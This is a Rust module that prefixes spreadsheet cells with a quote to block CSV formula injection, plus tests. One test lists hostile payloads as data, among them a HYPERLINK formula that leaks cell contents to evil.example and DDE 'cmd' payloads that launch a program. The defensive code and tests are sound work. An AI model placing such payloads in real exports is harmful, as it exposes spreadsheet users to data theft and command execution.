//! Cells for spreadsheets: text that Excel or LibreOffice would run as a formula is
//! neutralised as OWASP describes (CSV injection), so an exported note or name is shown,
//! never evaluated, on the machine that opens the file.

use std::borrow::Cow;

use chrono::{DateTime, SecondsFormat, Utc};
use chrono_tz::Tz;

/// An instant as the local date-time Excel and LibreOffice read as a date when they
/// open a CSV (`2026-11-30 09:31:05`, whole seconds, no zone).
pub fn local_date_time(tz: Tz, t: DateTime<Utc>) -> String {
    t.with_timezone(&tz).format("%Y-%m-%d %H:%M:%S").to_string()
}

/// An instant for machines: ISO 8601 in UTC to the second (`2026-11-30T01:31:05Z`).
pub fn utc_iso(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Secs, true)
}

/// The characters a spreadsheet reads as the start of a formula (or, for tab and carriage
/// return, strips before reading one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written to a CSV: a number (`-2.5`, `1e3`) unchanged, any other text that
/// starts with `= + - @`, a tab or a carriage return prefixed with `'`, which makes the
/// spreadsheet treat it as text.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A plain decimal number: optional sign, digits with at most one point, optional
/// exponent. Not `inf` or `NaN`, which Rust would parse but a spreadsheet reads as names.
fn is_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
        None => (unsigned, None),
    };
    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    !(whole.is_empty() && fraction.is_empty())
        && digits(whole)
        && digits(fraction)
        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn date_times_excel_reads() {
        let t = DateTime::parse_from_rfc3339("2026-11-30T01:31:05.123456789Z")
            .unwrap()
            .with_timezone(&Utc);
        assert_eq!(
            local_date_time(chrono_tz::Asia::Hong_Kong, t),
            "2026-11-30 09:31:05"
        );
        assert_eq!(utc_iso(t), "2026-11-30T01:31:05Z");
    }
    use proptest::prelude::*;

    #[test]
    fn the_payloads_from_the_probe_are_text() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"點擊\")",
            "+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=Mallory",
            "-inf",
            "-",
        ] {
            assert_eq!(csv_cell(payload), format!("'{payload}"));
        }
    }

    #[test]
    fn numbers_and_ordinary_text_pass_unchanged() {
        for plain in [
            "-2.50",
            "+3",
            "-1e5",
            "0.5",
            "-.5",
            "85.0",
            "微笑不足",
            "2026-11-30",
            "",
            "a=b",
        ] {
            assert_eq!(csv_cell(plain), plain);
        }
    }

    proptest! {
        #[test]
        fn no_cell_starts_a_formula(text in ".*") {
            let cell = csv_cell(&text);
            if cell.starts_with(FORMULA_STARTS) {
                prop_assert!(is_number(&cell), "{cell:?}");
                prop_assert!(cell.parse::<f64>().is_ok());
            }
            // Nothing is lost: the cell is the text, or the text behind one quote.
            prop_assert!(cell == text || cell.strip_prefix('\'') == Some(text.as_str()));
        }

        #[test]
        fn numbers_are_unchanged(n in proptest::num::f64::NORMAL | proptest::num::f64::ZERO) {
            for text in [n.to_string(), format!("{n:.2}"), format!("{n:e}")] {
                prop_assert_eq!(csv_cell(&text), text.as_str());
            }
        }
    }
}
